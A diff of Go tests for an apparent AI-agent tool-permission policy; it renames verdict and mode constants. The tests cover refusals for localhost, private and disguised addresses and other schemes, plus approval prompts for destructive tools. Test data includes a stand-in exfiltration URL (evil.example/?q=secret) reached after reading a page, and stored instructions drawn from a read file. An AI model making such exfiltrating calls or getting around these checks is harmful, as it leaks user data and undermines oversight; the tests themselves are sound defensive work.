@@ -17,16 +17,16 @@ func TestAllowsInterfaceToolsOnOpenPage(t *testing.T) {
 			"10437").hosts("shop.example"),
 		pageCall("scroll_page", `{"direction":"down"}`),
 	} {
-		wantVerdict(t, in, Allow)
-		wantVerdict(t, in.alone().caller(toolspec.CallerMCP), Allow)
+		wantVerdict(t, in, VerdictAllow)
+		wantVerdict(t, in.alone().caller(toolspec.CallerMCP), VerdictAllow)
 	}
 }
 
 func TestAllowsReadOnlyTools(t *testing.T) {
 	read := toolspec.Hints{ReadOnly: true}
-	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, read), Allow)
-	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read), Allow)
-	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read).alone(), Allow)
+	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, read), VerdictAllow)
+	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read), VerdictAllow)
+	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_list", "notes", `{}`, read).alone(), VerdictAllow)
 }
 
 func TestRefusesThisMachineAndPrivateNetworks(t *testing.T) {
@@ -37,14 +37,14 @@ func TestRefusesThisMachineAndPrivateNetworks(t *testing.T) {
 		"[64:ff9b::7f00:1]",
 		"127。0。0。1", "１２７.0.0.1",
 	} {
-		d := wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), Refuse)
+		d := wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), VerdictRefuse)
 		if d.ErrorType != toolspec.PermissionError {
 			t.Errorf("%s: got %s", host, d.ErrorType)
 		}
-		wantVerdict(t, baselineCall("web", "http_request", `{"url":"http://`+host+`/"}`, toolspec.Hints{}).mode(Full), Refuse)
+		wantVerdict(t, baselineCall("web", "http_request", `{"url":"http://`+host+`/"}`, toolspec.Hints{}).mode(ModeFull), VerdictRefuse)
 	}
 	for _, host := range []string{"shop.example", "93.184.216.34", "[2606:4700::1111]", "shop.example:8443"} {
-		wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), Allow)
+		wantVerdict(t, pageCall("navigate_page", `{"url":"http://`+host+`/"}`), VerdictAllow)
 	}
 }
 
@@ -56,36 +56,36 @@ func TestJudgesDisguisedAddress(t *testing.T) {
 	} {
 		in := pageCall("navigate_page", `{}`)
 		in.Call.Args = []byte(`{"url":` + quoteJSON(address) + `}`)
-		wantVerdict(t, in, Refuse)
+		wantVerdict(t, in, VerdictRefuse)
 	}
 }
 
 func TestTypedAddressOpensHost(t *testing.T) {
 	in := pageCall("navigate_page", `{"url":"http://127.0.0.1:8080/form"}`)
-	d := wantVerdict(t, in.typedHosts("127.0.0.1:8080"), Allow)
+	d := wantVerdict(t, in.typedHosts("127.0.0.1:8080"), VerdictAllow)
 	if len(d.Opens) != 1 || d.Opens[0] != "127.0.0.1:8080" {
 		t.Fatalf("opens %v", d.Opens)
 	}
-	wantVerdict(t, in.typedHosts("127.0.0.1"), Refuse) // the usual ports only
+	wantVerdict(t, in.typedHosts("127.0.0.1"), VerdictRefuse) // the usual ports only
 	usual := pageCall("navigate_page", `{"url":"http://127.0.0.1/form"}`)
-	wantVerdict(t, usual.typedHosts("127.0.0.1"), Allow)
-	wantVerdict(t, usual.typedHosts("127.0.0.1:80"), Allow)
-	wantVerdict(t, usual.typedHosts("127.0.0.1:8080"), Refuse)
-	wantVerdict(t, in.typedHosts("127.0.0.1:9090"), Refuse)
+	wantVerdict(t, usual.typedHosts("127.0.0.1"), VerdictAllow)
+	wantVerdict(t, usual.typedHosts("127.0.0.1:80"), VerdictAllow)
+	wantVerdict(t, usual.typedHosts("127.0.0.1:8080"), VerdictRefuse)
+	wantVerdict(t, in.typedHosts("127.0.0.1:9090"), VerdictRefuse)
 	in.OpenedHosts = d.Opens
-	if d := wantVerdict(t, in, Allow); len(d.Opens) != 0 {
+	if d := wantVerdict(t, in, VerdictAllow); len(d.Opens) != 0 {
 		t.Fatalf("it opens %v, which nobody typed in this turn", d.Opens)
 	}
 }
 
 func TestAllowHostsOpensHostForPrograms(t *testing.T) {
 	in := pageCall("navigate_page", `{"url":"http://localhost:3000/"}`).alone().caller(toolspec.CallerMCP)
-	d := wantVerdict(t, in, Refuse)
+	d := wantVerdict(t, in, VerdictRefuse)
 	if !strings.Contains(d.Suggestion, "--allow-hosts localhost:3000") {
 		t.Fatalf("suggestion %q does not name the option", d.Suggestion)
 	}
 	in.Settings.AllowHosts = []string{"127.0.0.1", "localhost"}
-	wantVerdict(t, in, Allow)
+	wantVerdict(t, in, VerdictAllow)
 }
 
 func TestRefusesOtherSchemesEvenWhenTyped(t *testing.T) {
@@ -96,20 +96,20 @@ func TestRefusesOtherSchemesEvenWhenTyped(t *testing.T) {
 	} {
 		in := pageCall("navigate_page", `{}`).typedHosts("etc", "settings")
 		in.Call.Args = []byte(`{"url":` + quoteJSON(address) + `}`)
-		d := wantVerdict(t, in.mode(Full), Refuse)
+		d := wantVerdict(t, in.mode(ModeFull), VerdictRefuse)
 		if d.ErrorType != toolspec.SecurityError {
 			t.Errorf("%s: got %s (%s)", address, d.ErrorType, d.Reason)
 		}
 	}
-	wantVerdict(t, pageCall("navigate_page", `{"url":"about:blank"}`), Allow)
+	wantVerdict(t, pageCall("navigate_page", `{"url":"about:blank"}`), VerdictAllow)
 }
 
 func TestReadOnlyModeRefusesChanges(t *testing.T) {
 	for _, tool := range []string{"navigate_page", "annotate_page", "scroll_page", "take_screenshot", "wait_for"} {
-		wantVerdict(t, pageCall(tool, `{}`).mode(ReadOnly), Allow)
+		wantVerdict(t, pageCall(tool, `{}`).mode(ModeReadOnly), VerdictAllow)
 	}
-	wantVerdict(t, baselineCall("navigation", "open_home_panel", `{}`, toolspec.Hints{}).mode(ReadOnly), Allow)
-	wantVerdict(t, baselineCall("files", "read_file", `{}`, toolspec.Hints{ReadOnly: true}).mode(ReadOnly), Allow)
+	wantVerdict(t, baselineCall("navigation", "open_home_panel", `{}`, toolspec.Hints{}).mode(ModeReadOnly), VerdictAllow)
+	wantVerdict(t, baselineCall("files", "read_file", `{}`, toolspec.Hints{ReadOnly: true}).mode(ModeReadOnly), VerdictAllow)
 	for _, in := range []Input{
 		pageCall("click_element", `{"annotationId":1}`), pageCall("type_text", `{"annotationId":1,"text":"x"}`),
 		pageCall("press_key", `{"key":"Enter"}`),
@@ -117,8 +117,8 @@ func TestReadOnlyModeRefusesChanges(t *testing.T) {
 		externalCall(toolspec.OriginPanel, "scroll_page", "x", `{}`, toolspec.Hints{}),
 		baselineCall("feedback", "enhance_baseline_prompt", `{}`, toolspec.Hints{}),
 	} {
-		wantVerdict(t, in.mode(ReadOnly), Refuse)
-		wantVerdict(t, in.mode(ReadOnly).caller(toolspec.CallerPerson), Refuse)
+		wantVerdict(t, in.mode(ModeReadOnly), VerdictRefuse)
+		wantVerdict(t, in.mode(ModeReadOnly).caller(toolspec.CallerPerson), VerdictRefuse)
 	}
 }
 
@@ -128,31 +128,31 @@ func TestAsksForDestructiveTools(t *testing.T) {
 	} {
 		for _, origin := range []toolspec.Origin{toolspec.OriginPanel, toolspec.OriginMCP, toolspec.OriginCreated} {
 			in := externalCall(origin, "do_it", "desk", `{"id":7}`, hints)
-			d := wantVerdict(t, in, Question)
+			d := wantVerdict(t, in, VerdictAsk)
 			if !strings.HasSuffix(d.Approval.Question, "?") || !strings.Contains(d.Approval.Question, "do_it") {
 				t.Errorf("%s: question %q", name, d.Approval.Question)
 			}
-			wantVerdict(t, in.mode(Full), Allow)
-			wantVerdict(t, in.alone(), Refuse)
+			wantVerdict(t, in.mode(ModeFull), VerdictAllow)
+			wantVerdict(t, in.alone(), VerdictRefuse)
 		}
 	}
-	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_add", "notes", `{}`, toolspec.Hints{}), Allow)
+	wantVerdict(t, externalCall(toolspec.OriginPanel, "note_add", "notes", `{}`, toolspec.Hints{}), VerdictAllow)
 }
 
 func TestAsksForFirstRequestToHost(t *testing.T) {
 	in := baselineCall("web", "http_request", `{"url":"https://api.example/v1"}`,
 		toolspec.Hints{OpenWorld: true}).hosts("api.example")
-	d := wantVerdict(t, in, Question)
+	d := wantVerdict(t, in, VerdictAsk)
 	if len(d.Contacts) != 1 || d.Contacts[0] != "api.example" {
 		t.Fatalf("contacts %v", d.Contacts)
 	}
 	used := in
 	used.UsedHosts = d.Contacts
-	wantVerdict(t, used, Allow)
+	wantVerdict(t, used, VerdictAllow)
 	used.UsedHosts = []string{"example"}
-	wantVerdict(t, used, Question)
-	wantVerdict(t, in.typedHosts("api.example"), Allow)
-	if d := wantVerdict(t, in.alone(), Refuse); !strings.Contains(d.Suggestion, "--allow-hosts api.example") {
+	wantVerdict(t, used, VerdictAsk)
+	wantVerdict(t, in.typedHosts("api.example"), VerdictAllow)
+	if d := wantVerdict(t, in.alone(), VerdictRefuse); !strings.Contains(d.Suggestion, "--allow-hosts api.example") {
 		t.Fatalf("suggestion %q", d.Suggestion)
 	}
 }
@@ -162,101 +162,101 @@ func TestYesToAnswersForRun(t *testing.T) {
 		toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("a.example").alone()
 	post := externalCall(toolspec.OriginPanel, "drop", "db", `{}`, toolspec.Hints{Destructive: true}).alone()
 	get, post = get.caller(toolspec.CallerRun), post.caller(toolspec.CallerRun)
-	if d := wantVerdict(t, get, Refuse); !strings.Contains(d.Suggestion, "--yes-to read") {
+	if d := wantVerdict(t, get, VerdictRefuse); !strings.Contains(d.Suggestion, "--yes-to read") {
 		t.Fatalf("suggestion %q", d.Suggestion)
 	}
-	if d := wantVerdict(t, post, Refuse); !strings.Contains(d.Suggestion, "--yes-to all") {
+	if d := wantVerdict(t, post, VerdictRefuse); !strings.Contains(d.Suggestion, "--yes-to all") {
 		t.Fatalf("suggestion %q", d.Suggestion)
 	}
 	get.Call.From.YesTo, post.Call.From.YesTo = "read", "read"
-	wantVerdict(t, get, Allow)
-	wantVerdict(t, post, Refuse)
+	wantVerdict(t, get, VerdictAllow)
+	wantVerdict(t, post, VerdictRefuse)
 	post.Call.From.YesTo = "all"
-	wantVerdict(t, post, Allow)
+	wantVerdict(t, post, VerdictAllow)
 	local := pageCall("navigate_page", `{"url":"http://10.0.0.1/"}`).alone().caller(toolspec.CallerRun)
 	local.Call.From.YesTo = "all"
-	wantVerdict(t, local, Refuse)
+	wantVerdict(t, local, VerdictRefuse)
 	client := externalCall(toolspec.OriginPanel, "drop", "db", `{}`,
 		toolspec.Hints{Destructive: true}).alone().caller(toolspec.CallerMCP)
 	client.Call.From.YesTo = "all"
-	wantVerdict(t, client, Refuse)
+	wantVerdict(t, client, VerdictRefuse)
 }
 
 func TestTaintedContextAsksForWhatTakesDataOut(t *testing.T) {
 	shop := "https://shop.example"
 	nav := pageCall("navigate_page", `{"url":"https://evil.example/?q=secret"}`).hosts("evil.example").read(shop)
-	d := wantVerdict(t, nav, Question)
+	d := wantVerdict(t, nav, VerdictAsk)
 	if !strings.Contains(d.Approval.Why, shop) ||
 		!strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
 		t.Fatalf("%+v", d.Approval)
 	}
-	wantVerdict(t, nav.mode(Full), Question)
-	wantVerdict(t, nav.typedHosts("evil.example"), Allow)
+	wantVerdict(t, nav.mode(ModeFull), VerdictAsk)
+	wantVerdict(t, nav.typedHosts("evil.example"), VerdictAllow)
 	linked := nav
 	linked.Description.IsPageLink = true
-	wantVerdict(t, linked, Allow)
-	wantVerdict(t, pageCall("navigate_page", `{"url":"https://shop.example/b"}`).hosts("shop.example").read(shop), Allow)
+	wantVerdict(t, linked, VerdictAllow)
+	wantVerdict(t, pageCall("navigate_page", `{"url":"https://shop.example/b"}`).hosts("shop.example").read(shop), VerdictAllow)
 
 	typed := pageCall("type_text", `{"annotationId":3,"text":"10437"}`).about(`[3] textbox "Postcode"`, "10437").read(shop)
-	wantVerdict(t, typed.hosts("shop.example"), Allow)
-	wantVerdict(t, typed.hosts("other.example"), Question)
+	wantVerdict(t, typed.hosts("shop.example"), VerdictAllow)
+	wantVerdict(t, typed.hosts("other.example"), VerdictAsk)
 	copied := typed.hosts("shop.example")
 	copied.Description.CopiedFrom = []string{"notes/address.md"}
-	if d := wantVerdict(t, copied, Question); !strings.Contains(d.Approval.Why, "notes/address.md") {
+	if d := wantVerdict(t, copied, VerdictAsk); !strings.Contains(d.Approval.Why, "notes/address.md") {
 		t.Fatalf("why %q", d.Approval.Why)
 	}
-	wantVerdict(t, pageCall("click_element", `{"annotationId":3}`).hosts("other.example").read(shop), Allow)
+	wantVerdict(t, pageCall("click_element", `{"annotationId":3}`).hosts("other.example").read(shop), VerdictAllow)
 
 	for _, in := range []Input{
 		baselineCall("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{}),
-		baselineCall("files", "write_file", `{"path":"a","content":"b"}`, toolspec.Hints{}).mode(Workspace).about("a", "b"),
+		baselineCall("files", "write_file", `{"path":"a","content":"b"}`, toolspec.Hints{}).mode(ModeWorkspace).about("a", "b"),
 		externalCall(toolspec.OriginMCP, "gh__comment", "gh", `{}`, toolspec.Hints{}),
 		baselineCall("web", "wget", `{"uri":"https://shop.example/"}`,
 			toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("shop.example"),
 	} {
-		wantVerdict(t, in.read(shop), Question)
-		wantVerdict(t, in.read(shop).mode(Full), Question)
-		wantVerdict(t, in.read(shop).alone(), Refuse)
+		wantVerdict(t, in.read(shop), VerdictAsk)
+		wantVerdict(t, in.read(shop).mode(ModeFull), VerdictAsk)
+		wantVerdict(t, in.read(shop).alone(), VerdictRefuse)
 	}
 	wantVerdict(t, baselineCall("feedback", "enhance_baseline_prompt", `{"note":"x"}`,
-		toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), Allow)
-	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, toolspec.Hints{ReadOnly: true}).read(shop), Allow)
+		toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), VerdictAllow)
+	wantVerdict(t, baselineCall("files", "read_file", `{"path":"a"}`, toolspec.Hints{ReadOnly: true}).read(shop), VerdictAllow)
 }
 
 func TestAsksBeforeStoringInstructionsAfterReadingFile(t *testing.T) {
 	note := baselineCall("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{})
-	wantVerdict(t, note, Allow)
+	wantVerdict(t, note, VerdictAllow)
 	note.Description.Local = []string{"file /home/ana/flat/README.md"}
-	for _, mode := range []Mode{Ask, Workspace, Full} {
-		if d := wantVerdict(t, note.mode(mode), Question); !strings.Contains(d.Approval.Why,
+	for _, mode := range []Mode{ModeAsk, ModeWorkspace, ModeFull} {
+		if d := wantVerdict(t, note.mode(mode), VerdictAsk); !strings.Contains(d.Approval.Why,
 			"file /home/ana/flat/README.md") {
 			t.Errorf("%s: why %q", mode, d.Approval.Why)
 		}
 	}
-	wantVerdict(t, note.alone(), Refuse)
+	wantVerdict(t, note.alone(), VerdictRefuse)
 	look := baselineCall("feedback", "list_notes", `{}`, toolspec.Hints{ReadOnly: true})
 	look.Description.Local = note.Description.Local
-	wantVerdict(t, look, Allow)
+	wantVerdict(t, look, VerdictAllow)
 	other := pageCall("click_element", `{"annotationId":3}`)
 	other.Description.Local = note.Description.Local
-	wantVerdict(t, other, Allow)
+	wantVerdict(t, other, VerdictAllow)
 }
 
 func TestWorkspaceModeCoversOnlyFolder(t *testing.T) {
 	del := toolspec.Hints{Destructive: true}
-	in := baselineCall("files", "write_file", `{}`, del).mode(Workspace)
-	wantVerdict(t, in.about("notes/a.md", "x"), Allow)
-	wantVerdict(t, in.about("/home/ana/flat/b", "x"), Allow)
-	wantVerdict(t, in.about("/home/ana/flat2/b", "x"), Question)
-	wantVerdict(t, in.about("../x", "x"), Question)
-	wantVerdict(t, in.about("", "x"), Question)
-	wantVerdict(t, in.mode(Ask).about("notes/a.md", "x"), Question)
-	wantVerdict(t, externalCall(toolspec.OriginPanel, "w", "p", `{}`, del).mode(Workspace).about("notes/a.md", ""), Question)
+	in := baselineCall("files", "write_file", `{}`, del).mode(ModeWorkspace)
+	wantVerdict(t, in.about("notes/a.md", "x"), VerdictAllow)
+	wantVerdict(t, in.about("/home/ana/flat/b", "x"), VerdictAllow)
+	wantVerdict(t, in.about("/home/ana/flat2/b", "x"), VerdictAsk)
+	wantVerdict(t, in.about("../x", "x"), VerdictAsk)
+	wantVerdict(t, in.about("", "x"), VerdictAsk)
+	wantVerdict(t, in.mode(ModeAsk).about("notes/a.md", "x"), VerdictAsk)
+	wantVerdict(t, externalCall(toolspec.OriginPanel, "w", "p", `{}`, del).mode(ModeWorkspace).about("notes/a.md", ""), VerdictAsk)
 }
 
 func TestQuestionHashBindsCall(t *testing.T) {
 	in := externalCall(toolspec.OriginPanel, "drop", "db", `{"b":1,"a":"<x>"}`, toolspec.Hints{Destructive: true})
-	d := wantVerdict(t, in, Question)
+	d := wantVerdict(t, in, VerdictAsk)
 	a := d.Approval
 	if string(a.Args) != `{"a":"<x>","b":1}` || a.Hash != hashOf(in) || len(a.Hash) != 64 {
 		t.Fatalf("%+v", a)
@@ -314,7 +314,7 @@ func TestQuestionText(t *testing.T) {
 		"Run tidy of db?": externalCall(toolspec.OriginPanel, "tidy", "db", `{}`,
 			toolspec.Hints{Confirm: true}),
 	} {
-		got := wantVerdict(t, in, Question).Approval
+		got := wantVerdict(t, in, VerdictAsk).Approval
 		if got.Question != want {
 			t.Errorf("got %q, want %q", got.Question, want)
 		}
